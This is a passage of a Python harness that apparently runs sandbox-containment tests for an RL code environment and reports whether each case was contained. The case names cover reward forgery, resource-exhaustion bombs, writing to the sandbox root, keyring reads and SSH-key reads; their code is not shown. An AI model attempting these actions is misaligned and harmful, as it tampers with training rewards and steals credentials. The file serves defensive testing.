    "forge_stop_iteration": forge_stop_iteration,
    "forge_reward_aux_alias": forge_reward_aux_alias,
    "forge_reward_default_argument": forge_reward_default_argument,
    "forge_prompt_helper": forge_prompt_helper,
    "forge_reward_shadowed_aux": forge_reward_shadowed_aux,
    "forge_transition_feedback": forge_transition_feedback,
    "memfd_bomb": memfd_bomb,
    "sysv_segments": sysv_segments,
    "tmp_inode_flood": tmp_inode_flood,
    "write_sandbox_root": write_sandbox_root,
    "keyring_read": keyring_read,
    "socket_families": socket_families,
    "read_ssh_via_python_prefix": read_ssh_via_python_prefix,
}


def run_case(name: str, workspace: Path, repo: str) -> dict:
    ws = workspace / name
    ws.mkdir(parents=True, exist_ok=True)
    func = CASES[name]
    try:
        contained, detail = func(ws, repo) if name == "orphans_after_trainer_crash" else func(ws)
    except Exception as exc:  # noqa: BLE001 - a broken case is reported, not contained
        contained, detail = False, f"case raised {type(exc).__name__}: {exc}"
    return {"case": name, "contained": bool(contained), "detail": detail, "uid": os.getuid()}


def import_library(repo: str) -> None:
    """Import the sandbox from `repo` without the package's heavy dependencies (torch, ...)."""
    import types

    base = Path(repo) / "comlrl_lightning"
    for name, path in (
        ("comlrl_lightning", base),
        ("comlrl_lightning.envs", base / "envs"),
        ("comlrl_lightning.envs.code", base / "envs" / "code"),
    ):
        if name not in sys.modules:
            module = types.ModuleType(name)
            module.__path__ = [str(path)]
            sys.modules[name] = module
    from comlrl_lightning.envs.code import sandbox  # noqa: F401


def main() -> None:
    repo, workspace = sys.argv[1], Path(sys.argv[2])
    import_library(repo)
    names = sys.argv[3:] or list(CASES)
    signal.signal(signal.SIGPIPE, signal.SIG_DFL)
    threads_out: list[dict] = []
    for name in names:
        threads_out.append(run_case(name, workspace, repo))
        print(json.dumps(threads_out[-1]), flush=True)


if __name__ == "__main__":
    threading.stack_size(0)
    main()
